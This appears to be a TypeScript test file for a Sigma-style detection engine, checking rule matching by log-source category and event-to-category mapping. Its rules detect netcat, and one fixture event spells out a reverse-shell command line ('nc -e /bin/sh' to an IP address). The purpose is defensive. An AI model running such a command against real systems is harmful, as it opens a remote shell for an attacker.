import { compileRule } from "./compile-rule";
import { categoriesOf } from "./logsource";
import { Ruleset } from "./ruleset";
import { connectEvent, execEvent, ruleYaml } from "./test-helpers";

function rule(id: string, category: string, detection: unknown, status = "test") {
  return compileRule(
    ruleYaml(detection, { id, status, logsource: { product: "linux", category } }),
    `${id}.yml`,
  );
}

const procRule = rule("00000000-0000-4000-8000-000000000001", "process_creation", {
  s: { "Image|endswith": "/nc" },
  condition: "s",
});
const procRule2 = rule("00000000-0000-4000-8000-000000000002", "process_creation", {
  s: { "CommandLine|contains": " -e " },
  condition: "s",
});
const netRule = rule("00000000-0000-4000-8000-000000000003", "network_connection", {
  s: { "Image|endswith": "/nc" },
  condition: "s",
});
const deprecated = rule(
  "00000000-0000-4000-8000-000000000004",
  "process_creation",
  { s: { "Image|endswith": "/nc" }, condition: "s" },
  "deprecated",
);

describe("ruleset - evaluation", () => {
  const ruleset = new Ruleset([procRule, procRule2, netRule, deprecated]);

  test("returns every matching rule of the document's category", () => {
    const fired = ruleset.match(
      execEvent({ executable: "/usr/bin/nc", command_line: "nc -e /bin/sh 1.2.3.4 9" }),
    );
    expect(fired.map((r) => r.id)).toEqual([procRule.id, procRule2.id]);
  });

  test("rules of another category never run", () => {
    const fired = ruleset.match(connectEvent({ process: { executable: "/usr/bin/nc" } }));
    expect(fired.map((r) => r.id)).toEqual([netRule.id]);
  });

  test("deprecated and unsupported rules are left out", () => {
    expect(ruleset.size).toBe(3);
    expect(ruleset.rules.map((r) => r.id)).not.toContain(deprecated.id);
  });

  test("no match returns one shared empty array", () => {
    const a = ruleset.match(execEvent({ executable: "/usr/bin/ls" }));
    const b = ruleset.match({ event: { category: ["host"], type: ["info"] } });
    expect(a).toHaveLength(0);
    expect(a).toBe(b);
  });

  test("documents without an event block match nothing", () => {
    expect(ruleset.match({})).toHaveLength(0);
    expect(ruleset.match({ event: "garbage" })).toHaveLength(0);
  });
});

describe("logsource - categories", () => {
  const base = { kind: "event", module: "vigil" };
  test.each([
    [{ category: ["process"], type: ["start"], action: "exec" }, ["process_creation"]],
    [{ category: ["process"], type: ["start"], action: "fork" }, []],
    [{ category: ["process"], type: ["end"], action: "exit" }, ["process_termination"]],
    [{ category: ["process"], type: ["change"], action: "credential-change" }, ["privilege_change"]],
    [{ category: ["process"], type: ["change"], action: "rename" }, []],
    [{ category: ["network"], type: ["connection", "start"], action: "connect" }, ["network_connection"]],
    [{ category: ["file"], type: ["change"], action: "open-write" }, ["file_event", "file_change"]],
    [{ category: ["file"], type: ["deletion"], action: "file-unlink" }, ["file_delete"]],
    [{ category: ["file"], type: ["creation"], action: "open-write" }, ["file_event"]],
    [{ category: ["file"], type: ["access"], action: "open-read" }, ["file_access"]],
    [{ category: "file", type: "access" }, ["file_access"]],
    [{ category: ["intrusion_detection"], type: ["indicator"], action: "integrity" }, ["kernel_integrity"]],
    [{ category: ["intrusion_detection"], type: ["indicator"], action: "device-opened" }, []],
    [{ category: ["host"], type: ["info"] }, []],
  ])("%j", (event, expected) => {
    expect(categoriesOf({ event: { ...base, ...event } })).toEqual(expected);
  });
});
